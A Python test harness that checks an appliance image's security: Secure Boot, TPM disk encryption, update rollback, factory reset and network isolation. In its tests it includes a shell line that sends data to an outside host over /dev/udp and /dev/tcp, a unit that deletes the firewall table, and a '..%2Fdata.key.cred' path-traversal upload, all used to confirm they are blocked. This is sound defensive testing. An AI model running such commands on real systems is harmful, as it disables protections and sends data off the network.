"""The trials of an image. Each one starts boxes, does something to them, and says in one JSON line what came of it."""
import datetime
import json
import os
import pathlib
import re
import shutil
import subprocess
import sys
import time

import display
from container import BITS, BOX, FAR, ROUTER, Container
from machine import CACHE, PATIENCE_S, Failed, Machine, run
from secretary import Secretary
from technician import Technician

READY = "huisclos : prête"
ROOT = CACHE / "trials"


def must(holds, why):
    """One line of a trial."""
    if not holds:
        raise Failed(why)


def ready(box):
    """Waits until the box says that it is; gives what it said of itself."""
    box.expect(READY)
    box.expect("en échec :")
    time.sleep(1)
    line = re.search(r"version (\S+), (\S+) s, mémoire (.*?), page (\S+), en échec : ([^\r\n]*)", box.since())
    version, since_kernel, memory, page, failed = line.groups()
    return {"version": version, "since_power_s": round(box.elapsed_s()), "since_kernel_s": float(since_kernel),
            "memory": memory, "page": page, "failed": failed.strip()}


def nothing_outside(box):
    """What the box sent was for the cabinet's network."""
    count, where, seen = box.sent_outside()
    must(count == 0, f"{count} packets left for {where}")
    return {"packets": seen, "packets_outside": count}


# The demonstration's caller, whom the simulated line carries in real time: plugged in on a USB key, rung by a unit of the trial's.
ASKED = ("open", "consent", "last_name", "first_name", "birth_date", "phone", "slot", "confirm", "other")


def voice(asked):
    """Where what she says to a question is, in the clone."""
    return f"/src/firmware/appliance/demo/{asked.replace('_', '-')}.wav"


def rings(folder, when):
    """A unit that rings the line with her voice, once the file `when` is there. It looks: a path unit is not told of a mount."""
    voices = " ".join(f"{asked}={folder}/{asked.replace('_', '-')}.wav" for asked in ASKED)
    ring = f"exec /usr/bin/huisclos ring --json --run-dir /run/huisclos --from 0612345678 --wav {voices}"
    return {
        "trial-ring.service": "[Service]\nType=exec\nStandardOutput=file:/dev/ttyS1\nStandardError=file:/dev/ttyS1\n"
        f"ExecStart=/bin/sh -c 'until [ -e {when} ]; do sleep 1; done; {ring}'\n",
    }


RINGS = rings("/run/usb/trial", "/run/usb/trial/open.wav")


def caller(name):
    """A USB key with the caller's voice."""
    return fat(name, 8, "trial", [voice(asked) for asked in ASKED])


def fat(name, size_mib, folder, files):
    """An image file with FAT, and files in one folder."""
    key = pathlib.Path(name)
    key.unlink(missing_ok=True)
    run("truncate", "-s", f"{size_mib}M", str(key))
    run("mkfs.vfat", "-n", "CLE", str(key))
    run("mmd", "-i", str(key), f"::{folder}")
    run("mcopy", "-i", str(key), *files, f"::{folder}/")
    return key


def called(box):
    """Waits for the end of the call that was rung; gives what became of it."""
    limit = time.monotonic() + PATIENCE_S
    while time.monotonic() < limit:
        rows = box.measured()
        errors = [row["error"] for row in rows if "error" in row]
        must(not errors, f"the call: {errors}")
        over = [row for row in rows if row.get("event") == "over"]
        if over:
            count = lambda event: sum(row.get("event") == event for row in rows)
            computed = sorted(row["compute_ms"] for row in rows if row.get("event") == "heard")
            return {"outcome": over[-1].get("outcome"), "seconds": over[-1].get("seconds"), "heard": count("heard"),
                    "booked": count("booked"), "said": count("said"), "compute_ms": computed}
        time.sleep(1)
    raise Failed(f"the call does not end: {box.measured()[-3:]}")


def recovery_key(box):
    """The disk's recovery key, as the cable said it at the first boot."""
    key = re.search(r"\b((?:[cbdefghijklnrtuv]{8}-){7}[cbdefghijklnrtuv]{8})\b", box.since())
    must(key, "no recovery key was shown")
    return key.group(1)


def installed(version, name):
    """A copy of a box that a technician installed: made the first time, with its recovery key and a test call."""
    master = ROOT / f"installed-{version}"
    if not (master / "recovery").exists():
        box = Machine(master, version)
        box.start()
        said = ready(box)
        key = recovery_key(box)
        technician = Technician(box)
        technician.opens()
        steps = technician.installs()
        state = technician.does("etat")
        status, _, body = box.page()
        outside = nothing_outside(box)
        time.sleep(20)
        box.cut()
        must(status in (200, 302, 303), f"the page answers {status}")
        must("0 octets hors du réseau" in state, f"the console's own count: {state}")
        (master / "said").write_text(json.dumps({**said, "page_status": status, "page_bytes": len(body), **outside,
                                                 "assistant": steps}, ensure_ascii=False))
        (master / "recovery").write_text(key)
    copy = ROOT / name
    shutil.rmtree(copy, ignore_errors=True)
    shutil.copytree(master, copy, ignore=shutil.ignore_patterns("*.sock", "*.pcap", "*.log"))
    return Machine(copy, version, blank=False)


def first_boot(version):
    """From image file to the test call: Secure Boot enrolled, disk encrypted under the TPM, installed by the assistant on the
    cable; the page answers, nothing was sent outside."""
    shutil.rmtree(ROOT / f"installed-{version}", ignore_errors=True)
    installed(version, "first-boot")
    return json.loads((ROOT / f"installed-{version}" / "said").read_text())


def call(version):
    """A call on the simulated line of the installed box, in the machine's own time; nothing is sent outside meanwhile."""
    box = installed(version, "call")
    box.start(units=RINGS)
    said = ready(box)
    box.plug(caller(box.folder / "caller.raw"))
    answered = called(box)
    technician = Technician(box)
    technician.opens()
    state = technician.does("etat")
    outside = nothing_outside(box)
    box.cut()
    must("0 octets hors du réseau" in state, f"the console's own count: {state}")
    must(answered["said"] > 0, f"nobody answered: {answered}")
    return {**said, "call": answered, **outside}


# Somebody on the box who wants to speak to the Internet: over UDP and TCP, and the same with the lock broken open.
LEAK = ("/bin/bash -c 'for n in 1 2 3; do echo voix > /dev/udp/{far}/53; timeout 3 bash -c \"echo voix > /dev/tcp/{far}/443\"; sleep 1; done; exit 0'")


def in_container(version):
    """The image's root in a container, at this machine's own speed: installed by the assistant, a call answered in real time, what
    it takes when idle, and nothing outside of the cabinet's network whatever is tried; with the lock open, the twin, it is seen."""
    leak = LEAK.format(far=FAR)
    units = {
        **rings("/var/lib/trial", "/var/lib/trial/ring"),
        "trial-leak.path": "[Path]\nPathExists=/var/lib/trial/leak\n",
        "trial-leak.service": f"[Service]\nType=oneshot\nRemainAfterExit=yes\nExecStart={leak}\n",
        "trial-open.path": "[Path]\nPathExists=/var/lib/trial/open-lock\n",
        "trial-open.service": "[Service]\nType=oneshot\nRemainAfterExit=yes\nExecStart=/usr/sbin/nft delete table inet huisclos\n"
        f"ExecStart={leak}\n",
    }
    box = Container(ROOT / "container", version, units)
    trial = box.root / "var/lib/trial"
    trial.mkdir()
    for asked in ASKED:
        shutil.copy(voice(asked), trial)
    box.start()
    try:
        return through(box, trial)
    finally:
        box.stop()


def day_in_container(version):
    """As many calls as a cabinet has in a day, one after the other in simulated time, each with the models and the books of the box,
    while the page is looked at: the far side sees nothing. (`HUISCLOS_DAY_CALLS`; `container` shows that it would.)"""
    box = Container(ROOT / "container-day", version, {})
    address = box.root / "var/lib/huisclos-board/cabinet.network"
    address.write_text(f"[Match]\nType=ether\n\n[Network]\nAddress={BOX}/{BITS}\nGateway={ROUTER}\n")
    box.start()
    try:
        said = box.ready()
        technician = Technician(box)
        technician.opens()
        until(box.page, lambda answer: answer[0] in (200, 302, 303))
        calls, booked_calls, began = int(os.environ.get("HUISCLOS_DAY_CALLS", "40")), 0, time.monotonic()
        for _ in range(calls):
            booked_calls += "rendez-vous pris" in technician.does("essai")
            must(box.page()[0] in (200, 302, 303), "the page does not answer")
        took = round(time.monotonic() - began)
        state = technician.does("etat")
        sent = box.sent()
        must("0 octets hors du réseau, 0 paquets refusés" in state, f"the console's count: {state}")
        must(sent["outside"] == 0 and sent["packets"] > calls, f"seen on the far side: {sent}")
        must(booked_calls == calls, f"{booked_calls} of {calls} calls were booked")
        return {**said, "calls": calls, "booked": booked_calls, "calls_s": took, "seen_far": sent}
    finally:
        box.stop()


def bad_in_container(version):
    """A version whose firmware does not work (`VERSION.2`) gives itself up: five starts, then it restarts the machine, which is what the
    boot loader counts. The twin: a guard that is started again at once keeps the box from being started at all."""
    seen = {}
    for how in ("as it is", "RestartSec=0"):
        box = Container(ROOT / "container-bad", f"{version}.2", {})
        if how != "as it is":
            beside = box.root / "etc/systemd/system/huisclos-guard.service.d"
            beside.mkdir()
            (beside / "trial.conf").write_text(f"[Service]\n{how}\n")
        box.start()
        limit = time.monotonic() + (PATIENCE_S if how == "as it is" else 30)
        while box.process.poll() is None and time.monotonic() < limit:
            time.sleep(0.5)
        ended = box.process.poll() is not None
        said = box.journal()
        seen[how] = {"restarts_the_machine": ended, "box_started": said.count("Starting huisclos.service"),
                     "guard_started": said.count("Starting huisclos-guard.service")}
        if not ended:
            box.cut()
        run("umount", "-l", str(box.root))
    must(seen["as it is"]["restarts_the_machine"] and seen["as it is"]["box_started"] == 5, f"it is not given up: {seen}")
    must(not seen["RestartSec=0"]["restarts_the_machine"], f"the check checks nothing: {seen}")
    return seen


def killed_in_container(version):
    """Everything in the box is killed at once while appointments are booked on the page; it starts again, and all that was
    confirmed is there. Less than a power cut: what was written stays written (`power-cut`, and the store's own trials)."""
    box = Container(ROOT / "container-killed", version, {})
    address = box.root / "var/lib/huisclos-board/cabinet.network"
    address.write_text(f"[Match]\nType=ether\n\n[Network]\nAddress={BOX}/{BITS}\n")
    box.start()
    try:
        box.ready()
        until(box.page, lambda answer: answer[0] in (200, 302, 303))
        confirmed, secretary = booked(box, box.process, box.first_process())
        box.cut()
        box.start()
        said = box.ready()
        until(box.page, lambda answer: answer[0] in (200, 302, 303))
        kept(secretary, confirmed)
        return {"confirmed_before_the_end": len(confirmed), "lost": 0, **said}
    finally:
        box.stop()


def through(box, trial):
    """The trial in the container, once it was started."""
    said = box.ready()
    technician = Technician(box, f"{BOX}/{BITS}", ROUTER)
    technician.opens()
    steps = technician.installs(lambda: (trial / "ring").touch(), lambda: called(box))
    status, _, page = until(box.page, lambda answer: answer[0] in (200, 302, 303))
    before = technician.does("etat")
    must("0 octets hors du réseau" in before and "refusé :" not in before, f"the console's count: {before}")
    doctor = Secretary(box)
    doctor.open_first_account(steps["account_code"].replace(" ", ""))
    counted = lambda: re.sub(r"<[^>]*>", " ", doctor.ask("/boitier")[2])
    shown = counted()
    must("0 octet hors du réseau du cabinet, 0 paquet refusé" in shown, f"the page's count: {shown}")
    idle = box.idle(60)
    (trial / "leak").touch()
    state = until(lambda: technician.does("etat"), lambda state: f"refusé : {FAR}" in state)
    must("0 octets hors du réseau" in state, f"the console's count: {state}")
    refused = re.search(r"(\d+) paquets refusés", state).group(1)
    shown = counted()
    must("0 octet hors du réseau du cabinet" in shown and re.search(rf"refusé\s+{FAR}", shown), f"the page's count: {shown}")
    sent = box.sent()
    must(sent["outside"] == 0, f"seen on the far side: {sent}")
    # The twin: without the lock the far side sees it, so it would have.
    (trial / "open-lock").touch()
    until(box.sent, lambda sent: sent["outside"] > 0)
    row = {**said, "assistant": steps, "page_status": status, "page_bytes": len(page), **idle, "refused": int(refused),
            "seen_far": sent, "seen_far_with_the_lock_open": box.sent()}
    must("failed" not in steps and steps["call"]["outcome"] == "booked", f"a call was not taken: {row}")
    return row


def until(look, holds):
    """Looks until it holds; gives what was seen."""
    limit = time.monotonic() + PATIENCE_S
    while time.monotonic() < limit:
        try:
            seen = look()
            if holds(seen):
                return seen
        except OSError as why:
            seen = why
        time.sleep(1)
    raise Failed(f"never came: {seen}")


def booked(box, process, victim):
    """Appointments are booked on the page until, in the middle, `victim` is killed, and `process` ends; what was confirmed, and by
    whom."""
    technician = Technician(box)
    technician.opens()
    technician.types("compte")
    _, shown = technician.sees("À taper une fois")
    code = re.search(r"\n\s+([0-9A-Z][0-9A-Z -]{5,})\s+À taper", shown).group(1).replace(" ", "")
    secretary = Secretary(box)
    secretary.open_first_account(code)
    day = datetime.date.today() + datetime.timedelta(days=7)
    while day.weekday() > 4:
        day += datetime.timedelta(days=1)
    confirmed, hours = [], [f"{h:02}:{m:02}" for h in (9, 10, 11, 14, 15, 16) for m in range(0, 60, 10)]
    killer = None
    for number, hour in enumerate(hours):
        if number == 6:
            # From another process: in the middle of whatever the next bookings are doing.
            killer = subprocess.Popen(["sh", "-c", f"sleep 1.7; kill -9 {victim}"])
        path = secretary.book(number, day.isoformat(), hour) if process.poll() is None else None
        if path is None:
            break
        confirmed.append(path)
    if killer:
        killer.wait()
    must(len(confirmed) >= 6, f"only {len(confirmed)} were booked")
    must(len(confirmed) < len(hours), "the end came too late")
    return confirmed, secretary


def kept(secretary, confirmed):
    """What was confirmed is there; what was never made is not."""
    secretary.sign_in()
    missing = [path for path in confirmed if not secretary.sees(path)]
    must(not missing, f"lost: {missing}")
    must(not secretary.sees("/rendez-vous/00000000000000000000000000000000"), "the page shows what was never made")


def power_cut(version):
    """The power is cut while appointments are booked on the page: whatever was confirmed is there afterwards."""
    box = installed(version, "power-cut")
    box.start()
    ready(box)
    confirmed, secretary = booked(box, box.qemu, box.qemu.pid)
    box.cut()
    nothing_outside(box)
    box.start()
    said = ready(box)
    kept(secretary, confirmed)
    outside = nothing_outside(box)
    box.cut()
    return {"confirmed_before_the_cut": len(confirmed), "lost": 0, **said, **outside}


# What systemd says when it wants a key typed.
ASKS = ("recovery key", "passphrase", "Please enter")


def wrong_tpm(version):
    """In another machine the disk stays shut; the recovery key opens it, and binds it to that machine."""
    if (ROOT / f"installed-{version}").exists():
        box = installed(version, "wrong-tpm")
        key = (box.folder / "recovery").read_text()
    else:
        # Its disk is all that this is about: a blank box has one too.
        box = Machine(ROOT / "wrong-tpm", version)
        box.start()
        ready(box)
        key = recovery_key(box)
        box.cut()
    shutil.rmtree(box.folder / "tpm")
    (box.folder / "tpm").mkdir()
    box.another_board()
    box.start()
    asked = box.expect(*ASKS, READY)
    must(asked != READY, "the disk opened with a foreign TPM")
    time.sleep(5)
    at = len(box.since())
    box.type("nnnnnnnn-" * 7 + "nnnnnnnn\r")
    asked = box.expect(*ASKS, READY, after=at)
    must(asked != READY, "a wrong key opened the disk")
    time.sleep(5)
    box.type(key + "\r")
    said = ready(box)
    box.cut()
    # Bound to the new machine: nobody is asked any more.
    box.start()
    again = box.expect(*ASKS, READY)
    box.cut()
    must(again == READY, "the recovery key is asked for at every start")
    return said


def harmed_kernel(version):
    """One byte of the kernel on the disk is changed: under Secure Boot nothing of it runs."""
    box = installed(version, "harmed-kernel")
    raw, kernel = box.folder / "disk.raw", box.folder / "kernel.efi"
    run("qemu-img", "convert", "-O", "raw", str(box.folder / "disk"), str(raw))
    table = json.loads(run("sfdisk", "--json", str(raw)))["partitiontable"]["partitions"]
    esp = next(f"{raw}@@{p['start'] * 512}" for p in table if p["type"] == "C12A7328-F81F-11D2-BA4B-00A0C93EC93B")
    name = f"::/EFI/Linux/huisclos_{version}.efi"
    run("mcopy", "-i", esp, name, str(kernel))
    bytes_of = bytearray(kernel.read_bytes())
    bytes_of[len(bytes_of) // 2] ^= 1
    kernel.write_bytes(bytes_of)
    run("mcopy", "-o", "-i", esp, str(kernel), name)
    (box.folder / "disk").unlink()
    run("qemu-img", "convert", "-O", "qcow2", str(raw), str(box.folder / "disk"))
    raw.unlink()
    box.start()
    said = box.expect("Access denied", "Access Denied", "Security violation", "Security Violation", READY)
    line = next(row for row in box.since().splitlines() if said in row)
    time.sleep(30)
    went = READY in box.since()
    box.cut()
    must(said != READY and not went, "a kernel that nobody signed runs")
    return {"said": line.strip()[-200:]}


def reset(version):
    """Factory reset from the console: the old recovery key opens nothing, no word of the cabinet is on the disk."""
    box = installed(version, "reset")
    key = (box.folder / "recovery").read_text()
    box.start()
    ready(box)
    technician = Technician(box)
    technician.opens()
    at = len(box.since())
    technician.confirms("usine")
    box.expect("remise à zéro", after=at)
    box.expect("CLÉ DE SECOURS", after=at)
    box.expect(READY, after=at)
    time.sleep(2)
    after = box.since()[at:]
    box.cut()
    new = re.findall(r"\b((?:[cbdefghijklnrtuv]{8}-){7}[cbdefghijklnrtuv]{8})\b", after)
    must(new and new[-1] != key, "the recovery key is the old one")
    raw = box.folder / "disk.raw"
    run("qemu-img", "convert", "-O", "raw", str(box.folder / "disk"), str(raw))
    table = json.loads(run("sfdisk", "--json", str(raw)))["partitiontable"]["partitions"]
    data = next(p for p in table if p.get("name") == "data")
    header = box.folder / "header"
    run("dd", f"if={raw}", f"of={header}", "bs=512", f"skip={data['start']}", "count=65536", "status=none")
    opened = subprocess.run(["cryptsetup", "luksOpen", "--test-passphrase", "--key-file=-", str(header)], input=key.encode(),
                            capture_output=True)
    twin = subprocess.run(["cryptsetup", "luksOpen", "--test-passphrase", "--key-file=-", str(header)], input=new[-1].encode(),
                          capture_output=True)
    # What the cabinet typed, and on the data's part the names of its files (the system's own scripts name them in clear); and, the
    # twin, what every disk says in clear: the kernel's own file.
    part = (data["start"] * 512, data["size"] * 512)
    clear, seen = in_clear(raw, ["Zibeline"]) + in_clear(raw, ["data.key.cred"], *part), in_clear(raw, ["roothash="])
    size = raw.stat().st_blocks // 2048
    raw.unlink()
    must(opened.returncode != 0, "the old recovery key opens the new disk")
    must(twin.returncode == 0, "the new recovery key does not open the disk: the check checks nothing")
    must(clear == 0, f"{clear} words of the cabinet in clear")
    must(seen > 0, "nothing is found in clear at all: the check checks nothing")
    return {"words_in_clear": clear, "words_of_the_twin": seen, "disk_mib": size}


def in_clear(disk, words, start=0, length=None):
    """How often words are on a disk, or on a part of it, as they are written."""
    words = [word.encode() for word in words]
    count, kept, left = 0, b"", length
    with open(disk, "rb") as blocks:
        blocks.seek(start)
        while block := blocks.read(2**24 if left is None else min(left, 2**24)):
            left = None if left is None else left - len(block)
            if not block.strip(b"\0"):
                kept = b""
                continue
            # A word may lie across two blocks; none is counted twice.
            seen = kept + block
            count += sum(seen.count(word) - kept.count(word) for word in words)
            kept = seen[1 - max(map(len, words)):]
    return count


def key_of(version, name):
    """A USB key with an update set: an image file with FAT."""
    usb = sorted((CACHE / "out" / version / "usb" / "huisclos").iterdir())
    return fat(name, sum(f.stat().st_size for f in usb) // 2**20 + 32, "huisclos", [str(f) for f in usb])


def update(version):
    """From a USB key to the next version, `VERSION.1` (built by `image-build/build VERSION.1`)."""
    following = f"{version}.1"
    box = installed(version, "update")
    box.start(usb=key_of(following, box.folder / "usb.raw"))
    ready(box)
    box.expect(f"version {following} installée", "mise à jour refusée")
    must("mise à jour refusée" not in box.since(), "the update was refused")
    box.cut()
    box.start()
    said = ready(box)
    box.cut()
    must(said["version"] == following, f"version {said['version']} runs")
    # From here on it is an installed box of the next version.
    kept = ROOT / f"installed-{following}"
    shutil.rmtree(kept, ignore_errors=True)
    shutil.copytree(box.folder, kept, ignore=shutil.ignore_patterns("*.sock", "*.pcap", "*.log", "usb.raw"))
    return said


def sent_by_page(box, following):
    """The set of a version, sent by the doctor through the page, file by file, as her browser would; with one byte of its list changed
    it is refused first. What it took."""
    technician = Technician(box)
    technician.opens()
    technician.types("compte")
    _, shown = technician.sees("À taper une fois")
    doctor = Secretary(box)
    doctor.open_first_account(re.search(r"\n\s+([0-9A-Z][0-9A-Z -]{5,})\s+À taper", shown).group(1).replace(" ", ""))
    files = sorted(f for f in (CACHE / "out" / following / "usb" / "huisclos").iterdir() if not f.name.startswith("models_"))
    doctor.ask("/boitier")
    status, said = doctor.sends("/boitier/fichier?fichier=..%2Fdata.key.cred", b"x")
    must(status == 422, f"a file that is none of an update's: {status} {said}")

    def brought(change):
        began = time.monotonic()
        for file in files:
            status, said = doctor.sends(f"/boitier/fichier?fichier={file.name}", change(file, file.read_bytes()))
            must(status == 200, f"{file.name}: {status} {said}")
        at = len(box.since())
        status, _, body = doctor.ask("/boitier/miseajour", {})
        must(status == 303, f"the page does not install: {status} {body[-300:]}")
        word = box.expect(f"version {following} installée", "refusé", after=at)
        return word != "refusé", round(time.monotonic() - began)

    large = files
    files = [file for file in files if file.name.startswith("SHA256SUMS")]
    taken, _ = brought(lambda file, data: data[:5] + bytes([data[5] ^ 1]) + data[6:] if file.name == "SHA256SUMS" else data)
    must(not taken, "a changed list is taken")
    files = large
    taken, took = brought(lambda file, data: data)
    must(taken, "the update was refused")
    state = re.sub(r"<[^>]*>", " ", doctor.ask("/boitier")[2])
    must(f"version {following} installée" in state, f"the page does not say it: {state[-600:]}")
    return {"sent_mib": sum(f.stat().st_size for f in files) >> 20, "sent_and_installed_s": took, **nothing_outside(box)}


def kernels(box):
    """The kernels on the box's disk, by name, with their length: a name tells how many tries a version has left."""
    raw = box.folder / "disk.raw"
    run("qemu-img", "convert", "-O", "raw", str(box.folder / "disk"), str(raw))
    table = json.loads(run("sfdisk", "--json", str(raw)))["partitiontable"]["partitions"]
    esp = next(f"{raw}@@{p['start'] * 512}" for p in table if p["type"] == "C12A7328-F81F-11D2-BA4B-00A0C93EC93B")
    rows = re.findall(r"EFI\s+([\d ]+?)\s+\d{4}-\d\d-\d\d\s+\d+:\d+\s+(huisclos_\S+)", run("mdir", "-i", esp, "::/EFI/Linux"))
    raw.unlink()
    return {name: int(size.replace(" ", "")) for size, name in rows}


def rolls_back(box, bad, before):
    """A box that runs is sent a bad version through its page: three tries that fail, then the one before comes back by the boot
    loader's own choice."""
    sent = sent_by_page(box, bad)
    box.cut()
    box.start()
    back = ready(box)
    box.cut()
    must(back["version"] == before, f"version {back['version']} runs")
    left = kernels(box)
    must(left.get(f"huisclos_{bad}+0-3.efi", 0) > 2**20, f"the bad version was not tried three times: {left}")
    return {"back": back, "by_the_page": sent, "kernels": left}


def bad_update(version):
    """A version whose firmware does not work (`VERSION.2`, built with HUISCLOS_BINARY=/bin/false) is sent through the page: the old
    one comes back."""
    bad = f"{version}.2"
    box = installed(version, "bad-update")
    box.start()
    ready(box)
    rolled = rolls_back(box, bad, version)
    return {**rolled.pop("back"), **rolled}


def updates(version):
    """Both in one box, which saves a start: the next version from a USB key, then a bad one through its page; the next one comes back."""
    following, bad = f"{version}.1", f"{version}.2"
    box = installed(version, "updates")
    box.start(usb=key_of(following, box.folder / "usb.raw"))
    ready(box)
    must(box.expect(f"version {following} installée", "refusé") != "refusé", "the update was refused")
    box.cut()
    box.start()
    said = ready(box)
    must(said["version"] == following, f"version {said['version']} runs")
    return {"updated": said, **rolls_back(box, bad, following)}


def panel(version):
    """An OLED on the kernel's I2C stub is found, its ribbon is pulled, it is put back; what it was sent is replayed to pixels."""
    box = installed(version, "panel")
    box.start(units=display.OLED, extra=("-gdb", f"unix:{box.folder}/gdb.sock,server=on,wait=off"))
    said = ready(box)
    told = [row for row in box.measured() if "chips" in row]
    must(told and int(told[0]["chips"], 16), f"the stub is not there: {box.measured()[:3]}")
    chips = int(told[0]["chips"], 16)
    technician = Technician(box)
    technician.opens()
    state = lambda: technician.does("etat")
    display.watches(box, state, display.FOUND, "the panel is not found")
    shown = display.replayed(box, "found", display.pictures(box))
    display.moves(box, chips, display.ADDRESS, display.ADDRESS + 1)
    display.watches(box, state, display.LOST, "the panel is not missed")
    lost, _ = display.sent(box)
    display.moves(box, chips, display.ADDRESS + 1, display.ADDRESS)
    display.watches(box, state, display.FOUND, "the panel is not found again")
    # A new glass, with anything in its memory: it was sent everything.
    again = display.replayed(box, "found-again", display.pictures(box, lost))
    box.cut()
    row = {**said, "bus": told[0]["bus"], "sent": shown, "after": again}
    for told in box.measured():
        row.update({key: told[key] for key in ("drivers", "lockdown") if key in told})
    must(min(shown["points_lit"], again["points_lit"]) > 200, f"the glass stays dark: {row}")
    return row


def screen(version):
    """A screen that the kernel drives shows the same pictures: photographed from outside."""
    box = installed(version, "screen")
    box.start(units=display.SCREEN, extra=("-device", "VGA"))
    said = ready(box)
    time.sleep(5)
    shown = display.photograph(box, "screen")
    technician = Technician(box)
    technician.opens()
    display.watches(box, lambda: technician.does("etat"), display.FOUND, "the screen is not found")
    box.cut()
    row = {**said, **shown}
    must(shown["points_lit"] > 200, f"the screen is dark: {row}")
    must(shown["points_of_two_colours"] == 0 and shown["lit_around"] == 0, f"something else is on the screen: {row}")
    return row


TRIALS = {"container": in_container, "container-killed": killed_in_container, "container-day": day_in_container, "container-bad": bad_in_container,
          "first-boot": first_boot, "call": call, "power-cut": power_cut,
          "wrong-tpm": wrong_tpm, "harmed-kernel": harmed_kernel, "reset": reset, "panel": panel, "screen": screen, "update": update, "bad-update": bad_update, "updates": updates}


def main():
    """Runs the trial that was asked for, or all."""
    asked, version = sys.argv[1], sys.argv[2]
    if asked != "all" and asked not in TRIALS:
        sys.exit(f"trials: {', '.join(TRIALS)}, all")
    failed = False
    # This network is the trial's own (image-build/try), and nothing in it is up yet.
    run("ip", "link", "set", "lo", "up")
    for name, trial in TRIALS.items():
        # `updates` shows what these two show, in one start less.
        if asked == name or asked == "all" and name not in ("update", "bad-update"):
            began = time.monotonic()
            try:
                row = {"trial": name, "came": "well", **(trial(version) or {})}
            except Failed as why:
                row, failed = {"trial": name, "came": "failed", "why": str(why)}, True
            print(json.dumps({**row, "seconds": round(time.monotonic() - began)}, ensure_ascii=False), flush=True)
    sys.exit(failed)


if __name__ == "__main__":
    main()
